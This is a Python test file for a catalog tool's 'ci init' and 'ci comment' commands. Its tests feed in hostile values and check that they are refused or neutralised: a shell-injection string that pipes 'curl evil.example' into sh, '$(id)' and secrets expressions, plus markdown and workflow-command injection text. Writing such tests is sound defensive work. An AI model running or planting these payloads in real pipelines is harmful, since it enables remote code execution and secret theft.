import json
import shutil
import subprocess
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from omnicat.looking.ci_comment import MOST_BYTES
from omnicat.looking.comment_mark import MARK, MOST_COMMENT
from tests.cli.conftest import Run

INSTALL = "git+https://git.example/tools/omnicat@v1.0"
HOSTILE = "![x](https://evil.example/x.png) <img src=x> @everyone #1 !2 GH-3 ~bug %m ::error::x\n/close\n\x1b[31m"


@pytest.fixture
def file(shop: Path, run: Run, tmp_path: Path) -> Path:
    """What a run over a broken catalog hands on."""
    (shop / "catalog/products/odd.yaml").write_text(f"sku: ODD\nfamily: {json.dumps(HOSTILE)}\n")
    found = tmp_path / "omnicat-review.json"
    run(shop, "lint", "--output", f"json={found}")
    return found


def texts(folder: Path) -> Mapping[str, str]:
    return {
        path.relative_to(folder).as_posix(): path.read_text() for path in folder.rglob("*.y*ml") if ".git" in str(path)
    }


@pytest.mark.parametrize("kit", ["github", "gitlab"])
def test_a_kit_is_planned_then_written_and_then_there(shop: Path, run: Run, kit: str) -> None:
    before = texts(shop)
    planned = run(shop, "ci", "init", kit, "--install", INSTALL)
    assert (planned.code, texts(shop)) == (0, before)
    assert "--apply" in planned.out
    written = run(shop, "ci", "init", kit, "--install", INSTALL, "--apply")
    assert written.code == 0
    assert all(
        INSTALL in text for name, text in texts(shop).items() if ".gitlab/" not in name and "approval" not in name
    )
    assert "Nothing to write" in run(shop, "ci", "init", kit, "--install", INSTALL).out


def test_a_changed_file_is_not_overwritten_without_a_word(shop: Path, run: Run) -> None:
    own = shop / ".github/workflows/omnicat.yml"
    own.parent.mkdir(parents=True)
    own.write_text("name: our own\n")
    assert "--overwrite replaces it" in run(shop, "ci", "init", "github", "--install", INSTALL).out
    refused = run(shop, "ci", "init", "github", "--install", INSTALL, "--apply")
    assert (refused.code, own.read_text()) == (2, "name: our own\n")
    assert not (own.parent / "omnicat-comment.yml").exists()
    assert run(shop, "ci", "init", "github", "--install", INSTALL, "--apply", "--overwrite").code == 0
    assert own.read_text() != "name: our own\n"


def test_a_catalog_in_a_folder_is_named_in_the_workflows_at_the_top(shop: Path, run: Run) -> None:
    top = shop.parent / "top"
    shutil.copytree(shop, top / "our shop")
    (top / ".git").mkdir()
    assert run(top / "our shop", "ci", "init", "github", "--install", INSTALL, "--apply").code == 0
    assert 'CATALOG: "our shop"' in (top / ".github/workflows/omnicat.yml").read_text()


@pytest.mark.parametrize("install", ['"; curl evil.example | sh #', "a\nb", "--extra=x", "$(id)", "${{ secrets.X }}"])
def test_what_could_be_more_than_a_requirement_is_refused(shop: Path, run: Run, install: str) -> None:
    assert run(shop, "ci", "init", "github", "--install", install).code == 2


def test_a_link_does_not_lead_out_of_the_repository(shop: Path, run: Run, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (shop / ".github").symlink_to(elsewhere)
    assert run(shop, "ci", "init", "github", "--install", INSTALL, "--apply").code == 2
    assert [*elsewhere.iterdir()] == []


def test_a_comment_is_text_whatever_the_data_says(shop: Path, run: Run, file: Path) -> None:
    made = run(shop, "ci", "comment", str(file), "--commit", "0123456789abcdef")
    assert made.code == 0
    assert made.out.startswith(f"{MARK}\n")
    tokens = [
        each
        for block in MarkdownIt("commonmark").enable("table").parse(made.out)
        for each in (block, *(block.children or ()))
    ]
    assert not {"link_open", "image", "fence", "code_block"} & {each.type for each in tokens}
    ours = {"<code>", "</code>", "<br>", "<sub>", "</sub>", MARK}
    assert {each.content.strip() for each in tokens if each.type == "html_inline"} <= ours
    assert {each.content.split("\n")[0] for each in tokens if each.type == "html_block"} <= {MARK, ""}
    assert not any(line.startswith(("/", "::", " ")) for line in made.out.splitlines())
    assert "\x1b" not in made.out
    assert all(f"{sign}\u200b" in made.out for sign in ("@", "#", "!", "~", "%"))


def test_a_comment_needs_no_catalog(run: Run, file: Path, tmp_path: Path) -> None:
    assert run(tmp_path, "ci", "comment", file.name).code == 0


def test_a_comment_stays_within_what_hosts_take(shop: Path, run: Run, file: Path) -> None:
    said = json.loads(file.read_text())
    said["findings"] = [
        each | {"rule": f"a/{n}", "message": "x" * 900} for n in range(800) for each in said["findings"][:1]
    ]
    file.write_text(json.dumps(said))
    made = run(shop, "ci", "comment", str(file))
    assert made.code == 0
    assert len(made.out.encode()) <= MOST_COMMENT


def test_what_is_not_the_file_is_refused(shop: Path, run: Run, file: Path) -> None:
    said: dict[str, Any] = json.loads(file.read_text())
    finding = said["findings"][0]
    for wrong in (
        b"",
        b"[]",
        b"[" * 100_000,
        b"9" * 100_000,
        b"\xff\xfe",
        json.dumps(said | {"version": 2}).encode(),
        json.dumps(said | {"findings": [finding | {"severity": "<b>"}]}).encode(),
        json.dumps(said | {"findings": [finding | {"message": "x" * 30_000}]}).encode(),
        b" " * (MOST_BYTES + 1),
    ):
        file.write_bytes(wrong)
        refused = run(shop, "ci", "comment", str(file))
        assert (refused.code, refused.out) == (2, ""), wrong[:40]
    assert run(shop, "ci", "comment", "nothing.json").code == 2


def test_pushes_to_the_default_branch_are_checked_whatever_it_is_called(shop: Path, run: Run) -> None:
    git = ("git", "-C", str(shop))
    subprocess.run([*git, "init", "-q", "-b", "trunk/one"], check=True)
    assert run(shop, "ci", "init", "github", "--install", INSTALL, "--apply").code == 0
    assert 'branches: ["trunk/one"]' in (shop / ".github/workflows/omnicat.yml").read_text()
    subprocess.run([*git, "symbolic-ref", "HEAD", 'refs/heads/a"b'], check=True)
    assert "has signs that a workflow can't name" in run(shop, "ci", "init", "github", "--install", INSTALL).err
